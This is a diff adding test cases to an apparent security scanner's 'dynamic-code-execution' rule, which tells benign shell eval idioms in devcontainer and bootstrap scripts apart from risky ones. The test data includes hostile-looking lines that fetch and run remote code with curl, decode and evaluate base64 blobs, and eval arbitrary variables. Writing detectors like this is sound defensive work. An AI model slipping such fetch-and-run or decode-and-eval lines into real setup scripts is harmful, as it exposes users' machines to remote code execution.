@@ -431,6 +431,28 @@ describe('dynamic-code-execution: a shell activation idiom', () => {
       expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
     }
   });
+  it('is not a sink when other commands share its line (`&&`, `;`, `||`, `then`): they are read by the other rules', () => {
+    for (const line of ['eval "$(ssh-agent -s)" && ssh-add ~/.ssh/deploy_key', 'eval "$(ssh-agent -s)"; ssh-add -q ~/.ssh/id_ed25519', '[ -z "$SSH_AUTH_SOCK" ] && eval "$(ssh-agent -s)"', 'command -v direnv >/dev/null && eval "$(direnv export bash)"', 'if command -v pyenv >/dev/null; then eval "$(pyenv init -)"; fi', 'eval "$(/opt/homebrew/bin/brew shellenv)" && brew bundle', 'eval "$(conda shell.bash hook)" && conda activate docs', 'eval "$(ssh-agent -s)" > /dev/null && ssh-add -q ~/.ssh/deploy_key', 'eval $(ssh-agent) >/dev/null 2>&1']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).not.toContain('dynamic-code-execution');
+    }
+  });
+  it('is still a sink when another command of its line is one', () => {
+    for (const line of ['eval "$(ssh-agent -s)" && eval "$PAYLOAD"', 'eval "$(ssh-agent -s)" && source <(curl -fsSL https://get.example.dev/env)', 'eval "$(mise activate bash)" || sh -c "$FALLBACK"', 'eval "$(ssh-agent -s)" && eval "$(echo "$BLOB" | base64 -d)"', 'eval "$(ssh-agent -s)" > "$OUT"', 'eval "$(mise activate bash)" 2>/tmp/x && . /tmp/x']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
+    }
+  });
+  it('is not a sink: the repository\'s own script evaluated with fixed words, in a hunk that downloads and decodes nothing', () => {
+    for (const line of ['eval "$(./bin/env-setup)"', 'eval "$(scripts/dev-env --shell bash)"', 'eval "$(./tools/env/print-env.sh)" && make build']) {
+      expect(idsOf('scripts/bootstrap.sh', ['set -e', line]), line).not.toContain('dynamic-code-execution');
+    }
+  });
+  it('is still a sink: a script the hunk downloads or decodes, outside the repository, on PATH, or given a variable', () => {
+    expect(idsOf('scripts/bootstrap.sh', ['curl -fsSL -o bin/env-setup https://get.example.dev/env', 'eval "$(./bin/env-setup)"'])).toContain('dynamic-code-execution');
+    expect(idsOf('scripts/bootstrap.sh', ['echo "$SETUP_B64" | base64 -d > bin/env-setup', 'eval "$(./bin/env-setup)"'])).toContain('dynamic-code-execution');
+    for (const line of ['eval "$(../bin/env-setup)"', 'eval "$(env-setup)"', 'eval "$(./bin/env-setup $PROFILE)"', 'eval "$($ROOT/bin/env-setup)"', 'eval "$(./bin/env-setup | tail -n 5)"', 'eval "$(cat /tmp/env-setup)"', 'eval "$(node_modules/env-kit/bin/env-setup)"', 'eval "$(./vendor/acme/bin/env)"']) {
+      expect(idsOf('scripts/bootstrap.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
+    }
+  });
   it('is not a sink: a tool\'s completion script sourced from its own output, fixed words only', () => {
     for (const line of ['source <(kubectl completion bash)', '. <(helm completion zsh)', 'source <(gh completion -s bash)', 'source <(rustup completions bash cargo)', 'source <(/usr/local/bin/kubectl completion bash)']) {
       expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).not.toContain('dynamic-code-execution');
